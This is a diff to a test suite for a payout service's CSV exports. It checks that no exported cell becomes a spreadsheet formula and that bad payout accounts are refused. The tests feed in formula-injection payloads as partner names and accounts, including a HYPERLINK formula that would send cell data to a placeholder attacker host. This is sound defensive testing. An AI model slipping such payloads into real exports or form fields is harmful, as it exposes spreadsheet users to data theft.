@@ -124,8 +124,9 @@ describe('lists and files', () => {
     expect(await file('paypal')).toBe(
       `pay@example.com,124.46,USD,payout-${batch.id}-${line?.id},Partner commission,PayPal\r\n`,
     )
-    expect(await file('wise')).toContain('pay@example.com,payout-')
-    expect(await file('wise')).toContain(',target,124.46,USD,USD,EMAIL')
+    expect(await file('wise')).toBe(
+      `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\n"'=cmd(), ""Ltd""",pay@example.com,payout-${batch.id}-${line?.id},target,124.46,USD,USD,EMAIL\r\n`,
+    )
     for (const name of ['bank', '__proto__', 'toString'])
       expectRefusal(
         await program.owner.call('GET', `${program.api}/payouts/${batch.id}/export?file=${name}`),
@@ -134,6 +135,24 @@ describe('lists and files', () => {
       )
     await program.decide(batch.id, line?.id ?? 0, { status: 'paid' })
     expect((await file('tributary')).trim().split('\r\n')).toHaveLength(1)
+  })
+
+  test('no cell of any file of a payout is a formula, whatever a partner is called', async () => {
+    const program = await givenPayingProgram(service, REWARD)
+    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
+    const { id } = await program.pay()
+    for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")'])
+      for (const file of ['tributary', 'paypal', 'wise']) {
+        const partner = { name, email: 'pay@example.com' }
+        await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, partner)
+        const answer = await fetch(`${service.url}${program.api}/payouts/${id}/export?file=${file}`, {
+          headers: { cookie: program.owner.cookie },
+        })
+        expect(answer.status).toBe(200)
+        const cells = (await answer.text()).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+        expect(cells.length).toBeGreaterThan(5)
+        expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
+      }
   })
 
   test('a file pays to the account that a partner has named, and nobody who wants to be paid another way', async () => {
@@ -160,8 +179,14 @@ describe('lists and files', () => {
     const answer = await exported('wise')
     expect(answer.status).toBe(409)
     expect(await answer.text()).toContain(`${program.link.partnerId} (paypal)`)
-    await wants('wise', 'not an address')
-    expect((await exported('wise')).status).toBe(409)
+    // One character more would be somebody else's address, so it stays as it is.
+    await wants('paypal', '+wallet@example.com')
+    expect(await (await exported('paypal')).text()).toStartWith('+wallet@example.com,')
+    for (const method of ['paypal', 'wise'])
+      for (const account of ['not an address', '=HYPERLINK("https://evil.example/","me@example.com")', '@SUM(1)']) {
+        await wants(method, account)
+        expect((await exported(method)).status).toBe(409)
+      }
     expect((await exported('tributary')).status).toBe(200)
   })
 
